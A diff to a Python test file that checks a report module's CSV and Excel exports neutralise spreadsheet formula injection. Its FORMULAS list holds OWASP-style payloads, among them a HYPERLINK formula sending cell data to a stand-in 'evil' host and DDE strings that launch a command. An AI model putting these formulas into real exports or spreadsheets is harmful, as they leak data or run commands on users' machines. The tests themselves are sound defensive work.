@@ -19,6 +19,7 @@ from mot.report import (
     ReportSection,
     chart_png,
     chart_svg,
+    csv_safe,
     format_number,
     table_to_csv,
     tables_to_excel,
@@ -254,6 +255,84 @@ def test_table_to_csv_in_spanish_uses_semicolons_and_decimal_commas():
 def test_table_to_csv_rejects_what_is_not_a_table():
     with pytest.raises(ExportError, match="DataFrame"):
         table_to_csv([1, 2])
+
+
+# Cells that a spreadsheet would run as formulas (OWASP "CSV Injection" and its examples).
+FORMULAS = [
+    "=1+1",
+    "+A",
+    "-B",
+    "@x",
+    "\t=1+1",
+    "\r=1+1",
+    '=HYPERLINK("http://evil/?d="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+]
+
+
+def formula_table() -> pd.DataFrame:
+    """33 hostile text cells: touchpoint labels, comments and segment values (categorical),
+    under column names that start with ``=`` / ``+`` / ``@``; beside numbers."""
+    n = len(FORMULAS)
+    return pd.DataFrame(
+        {
+            "=label": FORMULAS,
+            "+comment": pd.array(FORMULAS[::-1], dtype="string"),
+            "@segment": pd.Categorical(FORMULAS[1:] + FORMULAS[:1]),
+            "value": [-3.5 + i for i in range(n)],
+            "n": list(range(-5, n - 5)),
+        }
+    )
+
+
+def read_back(data: bytes, sep: str = ",") -> pd.DataFrame:
+    return pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", sep=sep, dtype=str, na_filter=False)
+
+
+@pytest.mark.parametrize(("language", "sep"), [("en", ","), ("es", ";")])
+def test_table_to_csv_writes_formula_like_text_as_text_and_keeps_numbers(language, sep):
+    table = formula_table()
+    before = table.copy()
+    back = read_back(table_to_csv(table, language=language), sep)
+    pd.testing.assert_frame_equal(table, before)  # the input is not modified
+    assert list(back.columns) == ["'=label", "'+comment", "'@segment", "value", "n"]
+    text = back.iloc[:, :3].to_numpy().ravel()
+    assert len(text) == 33
+    assert all(cell.startswith("'") for cell in text), text
+    assert sorted(cell[1:] for cell in text) == sorted(FORMULAS * 3)
+    decimal = "," if language == "es" else "."
+    assert back["value"].iloc[0] == f"-3{decimal}5", "a negative number stays a number"
+    assert back["n"].iloc[0] == "-5"
+
+
+def test_csv_safe_prefixes_text_only_and_documents_text_numbers():
+    table = pd.DataFrame({"text": ["-3", "ok", None, "a=1"], "number": [-3.0, 1.0, 2.0, 3.0]})
+    safe = csv_safe(table)
+    assert safe["text"].tolist()[:2] == ["'-3", "ok"], "a number kept as text is prefixed"
+    assert safe["text"].isna().tolist() == [False, False, True, False]
+    assert safe["text"].iloc[3] == "a=1", "only the first character counts"
+    assert safe["number"].tolist() == [-3.0, 1.0, 2.0, 3.0]
+    assert table["text"].iloc[0] == "-3"
+
+
+def test_tables_to_excel_keeps_formula_like_text_as_text():
+    import openpyxl
+
+    table = formula_table()
+    book = openpyxl.load_workbook(io.BytesIO(tables_to_excel({"t": table})))
+    rows = list(book["t"].iter_rows())
+    header, body = rows[0], rows[1:]
+    assert [c.value for c in header] == list(table.columns)
+    assert all(c.data_type == "s" for c in header), [(c.value, c.data_type) for c in header]
+    cells = [c for row in body for c in row[:3]]
+    assert len(cells) == 33
+    assert all(c.data_type == "s" for c in cells), [c.value for c in cells if c.data_type != "s"]
+    assert body[0][0].value == "=1+1", "Excel keeps the text as written, as text"
+    assert [row[3].value for row in body][:2] == [-3.5, -2.5]
+    assert all(row[3].data_type == "n" for row in body)
 
 
 # --- the report ------------------------------------------------------------------------------
